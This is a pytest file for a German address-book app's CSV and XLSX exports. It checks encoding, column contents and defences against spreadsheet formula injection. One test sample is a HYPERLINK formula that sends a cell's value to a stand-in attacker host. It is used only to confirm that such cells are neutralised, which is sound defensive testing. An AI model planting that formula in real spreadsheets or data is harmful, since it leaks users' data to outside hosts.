"""The address book as CSV (for German Excel) and XLSX: columns, cells, and no formula ever runs."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from gemeinwohl.core.visibility import Visibility
from gemeinwohl.directory import actions, exports, selectors
from gemeinwohl.directory.inputs import AffiliationInput, PersonInput
from gemeinwohl.directory.models import AffiliationKind, ContactKind, LegalForm, Sector
from gemeinwohl.directory.table_format import (
    ORGANISATION_COLUMNS,
    PERSON_COLUMNS,
    protect_cell,
    unprotect_cell,
)
from gemeinwohl.directory.tests.factories import OrganisationFactory, PersonFactory, TopicFactory, add_contact

pytestmark = pytest.mark.django_db


def csv_rows(response) -> list[list[str]]:
    """The cells of a CSV response, read as Excel reads it (BOM, semicolons)."""
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def xlsx_rows(response) -> list[list[str]]:
    return [[cell.value or "" for cell in row] for row in xlsx_sheet(response).iter_rows()]


def person_export(reader, fmt="csv"):
    rows = exports.person_rows(selectors.person_list(fetched_by=reader))
    if fmt == "xlsx":
        return exports.xlsx_response("adressbuch-personen", "Personen", PERSON_COLUMNS, rows)
    return exports.csv_response("adressbuch-personen", PERSON_COLUMNS, rows)


def organisation_export(reader, fmt="csv"):
    rows = exports.organisation_rows(selectors.organisation_list(fetched_by=reader))
    if fmt == "xlsx":
        return exports.xlsx_response("adressbuch-organisationen", "Organisationen", ORGANISATION_COLUMNS, rows)
    return exports.csv_response("adressbuch-organisationen", ORGANISATION_COLUMNS, rows)


def test_the_csv_is_utf8_with_bom_semicolons_and_crlf_for_german_excel(users):
    PersonFactory(family_name="Müller", given_name="Jürgen")

    response = person_export(users["team_internal"])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="adressbuch-personen.csv"'
    assert response.content.startswith(b"\xef\xbb\xbfNachname;Vorname;Titel;Pronomen;E-Mail;Telefon;Organisation;")
    assert response.content.decode("utf-8").split("\r\n")[1].startswith("Müller;Jürgen;")


def test_a_person_row_holds_name_contacts_organisation_topics_and_visibility(users):
    # Given a person with e-mail, phone, a relation to an organisation and topics
    organisation = OrganisationFactory(name="Mieterinitiative Görlitzer Straße")
    person = PersonFactory(
        family_name="Yılmaz",
        given_name="Ayşe",
        title="Dr.",
        pronouns="sie/ihr",
        email="ayse@example.org",
        organisation=organisation,
        topics=[TopicFactory(name="Vorkaufsrecht"), TopicFactory(name="Milieuschutz")],
        visibility=Visibility.MEMBERS,
    )
    add_contact(person, kind=ContactKind.MOBILE, value="0170 1234567")

    # When the team exports the people
    rows = csv_rows(person_export(users["team_external"]))

    # Then the row reads as in the list, in the import's words
    assert rows == [
        PERSON_COLUMNS,
        [
            "Yılmaz",
            "Ayşe",
            "Dr.",
            "sie/ihr",
            "ayse@example.org",
            "0170 1234567",
            "Mieterinitiative Görlitzer Straße",
            "arbeitet bei",
            "",
            "Milieuschutz, Vorkaufsrecht",
            "Mitglieder",
        ],
    ]


def test_an_organisation_row_holds_parent_legal_form_contacts_and_topics(users):
    parent = OrganisationFactory(name="Bezirksamt Friedrichshain-Kreuzberg", sector=Sector.ADMINISTRATION)
    organisation = OrganisationFactory(
        name="Stadtentwicklungsamt",
        short_name="SE-Amt",
        sector=Sector.ADMINISTRATION,
        legal_form=LegalForm.AUTHORITY,
        parent=parent,
        email="stadtentwicklung@ba.example",
        topics=[TopicFactory(name="Milieuschutz")],
        visibility=Visibility.PUBLIC,
    )
    add_contact(organisation, kind=ContactKind.WEBSITE, value="https://ba.example/se", visibility=Visibility.PUBLIC)
    add_contact(organisation, kind=ContactKind.PHONE, value="030 90298-0", visibility=Visibility.PUBLIC)
    add_contact(organisation, kind=ContactKind.ADDRESS, value="Yorckstr. 4-11, 10965 Berlin")

    rows = csv_rows(organisation_export(users["team_external"]))

    assert rows[2] == [
        "Stadtentwicklungsamt",
        "SE-Amt",
        "Verwaltung",
        "Behörde/Amt",
        "Bezirksamt Friedrichshain-Kreuzberg",
        "https://ba.example/se",
        "stadtentwicklung@ba.example",
        "030 90298-0",
        "Yorckstr. 4-11, 10965 Berlin",
        "Milieuschutz",
        "öffentlich",
    ]
    assert rows[1][:5] == ["Bezirksamt Friedrichshain-Kreuzberg", "", "Verwaltung", "", ""]


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Klick")',
    "+49 30 1234567",
    "-2+3",
    "@SUM(A1:A2)",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_that_start_like_a_formula_get_a_leading_apostrophe(users, value):
    # Given an organisation whose name starts like a spreadsheet formula
    OrganisationFactory(name=value, short_name="Kiez")

    # When it is exported as CSV
    row = csv_rows(organisation_export(users["team_internal"]))[1]

    # Then Excel would show it as text: the cell starts with an apostrophe; other cells stay as they are
    assert row[:3] == ["'" + value, "Kiez", "Zivilgesellschaft/Initiative"]


def test_csv_protects_every_column_not_only_names(users):
    organisation = OrganisationFactory(name="Kiezladen", topics=[TopicFactory(name="=1+1")])
    add_contact(organisation, kind=ContactKind.PHONE, value="+49 30 1234567")
    add_contact(organisation, kind=ContactKind.ADDRESS, value="@Wrangelkiez")

    row = csv_rows(organisation_export(users["team_internal"]))[1]

    assert (row[7], row[8], row[9]) == ("'+49 30 1234567", "'@Wrangelkiez", "'=1+1")


@pytest.mark.parametrize("value", FORMULAS)
def test_xlsx_stores_cells_that_start_like_a_formula_as_text(users, value):
    OrganisationFactory(name=value)

    response = organisation_export(users["team_internal"], fmt="xlsx")

    # The cell reads back as the very text, typed as a string, not a formula, and without apostrophe
    cell = xlsx_sheet(response)["A2"]
    assert (cell.value, cell.data_type) == (value, "s")
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_the_xlsx_has_a_bold_header_and_one_row_per_entry(users):
    OrganisationFactory(name="Kiezladen", legal_form=LegalForm.ASSOCIATION)
    OrganisationFactory(name="Stadtteilbüro")

    response = organisation_export(users["team_internal"], fmt="xlsx")

    assert response["Content-Disposition"] == 'attachment; filename="adressbuch-organisationen.xlsx"'
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = xlsx_sheet(response)
    assert sheet.title == "Organisationen"
    assert all(cell.font.bold for cell in sheet[1])
    assert xlsx_rows(response) == [
        ORGANISATION_COLUMNS,
        ["Kiezladen", "", "Zivilgesellschaft/Initiative", "Verein", "", "", "", "", "", "", "Team"],
        ["Stadtteilbüro", "", "Zivilgesellschaft/Initiative", "", "", "", "", "", "", "", "Team"],
    ]


def test_control_characters_do_not_break_the_xlsx(users):
    # Given a name with a control character, as a pasted text can bring along
    PersonFactory(family_name="Schulz\x07", given_name="Eva\x1b")

    response = person_export(users["team_internal"], fmt="xlsx")

    # Then the workbook is still made; the invisible characters are left out
    assert response.status_code == 200
    assert xlsx_rows(response)[1][:2] == ["Schulz", "Eva"]


def test_a_person_row_names_relation_and_function(users):
    # Given a person who is a member of an organisation, with a function there
    organisation = OrganisationFactory(name="Kiezladen")
    actions.person_create(
        by=users["team_internal"],
        data=PersonInput(family_name="Berg"),
        affiliations=[AffiliationInput(organisation=organisation, kind=AffiliationKind.MEMBER_OF, function="Vorstand")],
    )

    row = csv_rows(person_export(users["team_internal"]))[1]

    assert row[6:9] == ["Kiezladen", "Mitglied von", "Vorstand"]


@pytest.mark.parametrize(
    "value",
    [
        "Kiezladen",
        "",
        "=1+1",
        "+49 30 1234567",
        "-",
        "@",
        "'",
        "''",
        "'s Kiezhaus",
        "'=1+1",
        "''+49",
        "\tTab",
    ],
)
def test_a_protected_cell_reads_back_as_it_was(value):
    assert unprotect_cell(protect_cell(value)) == value


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "'=1+1"])
def test_no_protected_cell_starts_like_a_formula(value):
    assert protect_cell(value).startswith("'")
